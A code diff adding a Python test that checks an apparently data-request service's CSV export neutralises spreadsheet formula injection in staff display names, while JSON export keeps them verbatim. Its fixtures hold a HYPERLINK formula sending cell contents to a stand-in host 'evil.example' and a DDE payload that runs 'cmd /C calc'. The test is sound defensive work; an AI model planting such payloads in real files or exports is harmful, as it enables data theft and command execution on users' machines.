@@ -155,3 +155,44 @@ async def test_an_unclassified_request_lists_as_unclassified_until_staff_pick_it
         "unclassified",
         "complaint",
     )
+
+
+# A formula a spreadsheet would run: it sends the cells beside it to someone else's server.
+LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")'
+CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+async def test_export_csv_neutralises_a_staff_name_a_spreadsheet_would_run(
+    service: RequestService, database_url: str, encryption_key: str, tmp_path: Path
+) -> None:
+    # A Telegram display name is whatever its owner typed, staff included.
+    view = await service.open_request(
+        kind="complaint", channel="telegram", language="en", telegram_user_id=9
+    )
+    await service.verify_by_contact(
+        view.reference, sender_user_id=9, contact_user_id=9, phone="+77011234567"
+    )
+    await service.take(view.reference, Actor.staff(STAFF_ID, LEAK))
+    await service.reject(view.reference, Actor.staff(5002, CALC), "no")
+    settings = env(database_url, encryption_key)
+
+    out = tmp_path / "register.csv"
+    written = aina_dsr(tmp_path, "requests", "export", "-o", str(out), **settings)
+    assert written.returncode == 0, written.stderr
+    printed = aina_dsr(tmp_path, "requests", "export", "--format", "csv", **settings)
+    assert printed.stdout == out.read_text(encoding="utf-8")
+
+    rows = list(csv.DictReader(io.StringIO(printed.stdout)))
+    names = {r["action"]: r["actor_name"] for r in rows}
+    assert names["take"] == "'" + LEAK
+    assert names["reject"] == "'" + CALC
+    # No cell of the file starts a formula; the ordinary ones are as they were.
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r", value
+    assert rows[0]["reference"] == view.reference and rows[0]["actor"] == "person"
+
+    # JSON is for programs, not spreadsheets: its values stay exactly as recorded.
+    as_json = aina_dsr(tmp_path, "requests", "export", "--format", "json", **settings)
+    [exported] = json.loads(as_json.stdout)
+    assert [e["actor_name"] for e in exported["events"]][2:] == [LEAK, CALC]
